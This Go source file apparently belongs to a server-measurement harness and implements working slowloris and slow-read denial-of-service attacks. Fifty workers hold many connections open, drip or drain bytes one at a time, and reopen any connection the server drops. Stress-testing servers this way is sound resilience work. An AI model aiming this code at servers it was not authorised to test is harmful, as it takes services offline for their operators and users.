package main

import (
	"net"
	"sync"
	"time"
)

// attack keeps n hostile connections open against addr while a
// measurement runs: "slowloris" trickles a request head one byte every
// second and never finishes it; "slowread" sends complete requests for a
// large response and reads one byte a second. Connections the server
// closes are reopened, so the pressure stays constant. Bounded by stop.
type attack struct {
	stop chan struct{}
	wg   sync.WaitGroup
}

func startAttack(kind, addr, path string, n int) *attack {
	a := &attack{stop: make(chan struct{})}
	per := n / 50
	for w := 0; w < 50; w++ {
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			a.worker(kind, addr, path, per)
		}()
	}
	return a
}

func (a *attack) worker(kind, addr, path string, n int) {
	conns := make([]net.Conn, n)
	sent := make([]int, n)
	head := "GET " + path + " HTTP/1.1\r\nHost: x\r\nUser-Agent: slow\r\nX-Pad: " + string(make([]byte, 0)) + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	dial := func(i int) {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			conns[i] = nil
			return
		}
		if tc, ok := c.(*net.TCPConn); ok {
			_ = tc.SetReadBuffer(4096) // slow readers keep a small window
		}
		conns[i], sent[i] = c, 0
		if kind == "slowread" {
			_, _ = c.Write([]byte("GET " + path + " HTTP/1.1\r\nHost: x\r\n\r\n"))
		}
	}
	defer func() {
		for _, c := range conns {
			if c != nil {
				c.Close()
			}
		}
	}()
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	var one [1]byte
	for {
		for i := range conns {
			select {
			case <-a.stop:
				return
			default:
			}
			if conns[i] == nil {
				dial(i)
				continue
			}
			c := conns[i]
			var err error
			if kind == "slowread" {
				_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
				_, err = c.Read(one[:])
				if ne, ok := err.(net.Error); ok && ne.Timeout() {
					err = nil
				}
			} else {
				_ = c.SetWriteDeadline(time.Now().Add(time.Millisecond))
				_, err = c.Write([]byte{head[sent[i]%len(head)]})
				sent[i]++
			}
			if err != nil {
				c.Close()
				dial(i)
			}
		}
		select {
		case <-a.stop:
			return
		case <-tick.C:
		}
	}
}

func (a *attack) finish() {
	close(a.stop)
	a.wg.Wait()
}
